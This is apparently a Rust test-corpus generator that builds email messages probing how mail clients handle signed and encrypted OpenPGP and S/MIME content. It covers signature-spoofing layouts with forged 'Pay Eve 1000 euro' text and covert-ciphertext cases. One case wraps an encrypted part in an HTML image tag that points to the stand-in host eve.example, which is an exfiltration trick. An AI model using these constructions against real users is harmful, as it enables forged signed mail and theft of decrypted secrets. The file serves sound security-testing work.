//! Attacks 1, 2 and 5: which octets are signed, which parts, and what stands beside a ciphertext.

use crate::kit::*;
use mailseal_testkit::personas::ALICE;

pub(crate) fn make() {
    embedded_content();
    partly_signed();
    covert_content();
}

fn embedded_content() {
    let folder = "01-embedded-content";
    let gpg = Gpg::new();
    for tech in BOTH {
        write(folder, &format!("control-detached-{}", tech.name()), mail(FROM_ALICE, &tech.signed(&ALICE, LETTER)));
    }
    write(folder, "control-opaque-smime", mail(FROM_ALICE, &opaque("signed-data", &opaque_signed(&ALICE, LETTER))));
    let smime =
        |entity: &str, inside: &str| mail(FROM_ALICE, &SMime.with_signature(entity, &opaque_signed(&ALICE, inside)));
    write(folder, "other-content-smime", smime(FORGED, LETTER));
    write(folder, "same-content-smime", smime(LETTER, LETTER));
    write(folder, "empty-content-smime", smime(FORGED, ""));
    let detached = SMime.signature(&[ALICE], LETTER);
    write(folder, "opaque-without-content-smime", mail(FROM_ALICE, &opaque("signed-data", &detached)));
    let of_nothing = SMime.signature(&[ALICE], "");
    write(folder, "opaque-of-nothing-smime", mail(FROM_ALICE, &opaque("signed-data", &of_nothing)));
    for (name, how) in [
        ("whole-message-pgp", "--armor --sign -u alice@example.org"),
        ("stored-message-pgp", "--armor --sign -z 0 -u alice@example.org"),
        ("cleartext-pgp", "--clearsign -u alice@example.org"),
    ] {
        write(folder, name, mail(FROM_ALICE, &Pgp.with_signature(FORGED, crlf(&gpg.run(how, LETTER)).as_bytes())));
    }
}

fn partly_signed() {
    let folder = "02-partly-signed";
    for tech in BOTH {
        let put = |name: &str, entity: &str| {
            write(folder, &format!("{name}-{}", tech.name()), mail(FROM_ALICE, entity));
        };
        let signed = tech.signed(&ALICE, LETTER);
        put("footer", &multipart("mixed", "list", &[&signed, FORGED]));
        put("before", &multipart("mixed", "list", &[FORGED, &signed]));
        put("alternative", &multipart("alternative", "list", &[&signed, &html("<p>Pay Eve 1000 euro.</p>")]));
        let shown = html("<p>Pay Eve 1000 euro.</p><iframe src=\"cid:signed\" height=0></iframe>");
        let hidden = signed.replacen("\r\n\r\n", "\r\nContent-ID: <signed>\r\n\r\n", 1);
        put("hidden-by-cid", &multipart("related", "list", &[&shown, &hidden]));
        let attached = format!("Content-Type: message/rfc822\r\n\r\n{}", mail(FROM_ALICE, &signed));
        put("attached-message", &multipart("mixed", "list", &[FORGED, &attached]));
        put("message-in-message", &attached);
        let signature = tech.signature_part(&tech.signature(&[ALICE], LETTER));
        put("three-parts", &tech.multipart_signed(&[LETTER, &signature, FORGED]));
        put("three-parts-forged-first", &tech.multipart_signed(&[FORGED, LETTER, &signature]));
        put("signature-first", &tech.multipart_signed(&[&signature, LETTER]));
        put("preamble", &signed.replacen("--signed", "Pay Eve 1000 euro.\r\n--signed", 1));
        put("epilogue", &format!("{signed}Pay Eve 1000 euro.\r\n"));

        let footer = "Content-Type: text/plain\r\n\r\n-- \r\nThe list\r\n";
        put("control-footer-inside", &tech.signed(&ALICE, &multipart("mixed", "list", &[LETTER, footer])));
        let forwarded = format!("Content-Type: message/rfc822\r\n\r\n{}", mail(FROM_EVE, FORGED));
        put("control-forwarded", &tech.signed(&ALICE, &multipart("mixed", "list", &[LETTER, &forwarded])));
        put("control-preamble", &signed.replacen("--signed", "This message is signed.\r\n--signed", 1));
    }
}

fn covert_content() {
    let folder = "05-covert-content";
    for tech in BOTH {
        let put = |name: &str, entity: &str| {
            write(folder, &format!("{name}-{}", tech.name()), mail(FROM_EVE, entity));
        };
        let stolen = tech.encrypted(SECRET);
        let (open, close) = (html("<img src=\"http://eve.example/"), html("\">"));
        put("between-html", &multipart("mixed", "m", &[&open, &stolen, &close]));
        put("alone", &multipart("mixed", "m", &[&stolen]));
        put("related", &multipart("related", "m", &[&html("<p>Please answer.</p>"), &stolen]));
        put("alternative", &multipart("alternative", "m", &[&stolen, FORGED]));
        let forwarded = format!("Content-Type: message/rfc822\r\n\r\n{}", mail(FROM_ALICE, &stolen));
        put("forwarded", &forwarded);
        put("attached", &multipart("mixed", "m", &[FORGED, &forwarded]));
        put("twice", &multipart("mixed", "m", &[&stolen, &stolen]));
        let (insider, from) = tech.insider();
        let signed = tech.signed(&insider, &multipart("mixed", "m", &[FORGED, &stolen]));
        write(folder, &format!("signed-by-the-thief-{}", tech.name()), mail(from, &signed));
        let sealed = tech.encrypted(&multipart("mixed", "m", &[FORGED, &stolen]));
        put("inside-another", &sealed);

        put("control-root", &stolen);
        put("control-attachments", &tech.encrypted(&multipart("mixed", "m", &[SECRET, LETTER])));
        write(folder, &format!("control-sealed-{}", tech.name()), mail(FROM_ALICE, &tech.sealed(&ALICE, SECRET)));
    }
    let armored = text(&Pgp.ciphertext(&[Pgp.reader()], &[], SECRET));
    let put = |name: &str, entity: &str| write(folder, name, mail(FROM_EVE, entity));
    put("text-before-armor-pgp", &controlled(&format!("Pay Eve 1000 euro.\r\n{armored}")));
    put("text-after-armor-pgp", &controlled(&format!("{armored}Pay Eve 1000 euro.\r\n")));
    put("preamble-pgp", &controlled(&armored).replacen("--sealed", "Pay Eve 1000 euro.\r\n--sealed", 1));
    let third = controlled(&armored).replace("--sealed--", &format!("--sealed\r\n{FORGED}\r\n--sealed--"));
    put("third-part-pgp", &third);
    put("inline-pgp", &format!("Content-Type: text/plain\r\n\r\nPay Eve 1000 euro.\r\n\r\n{armored}"));
}
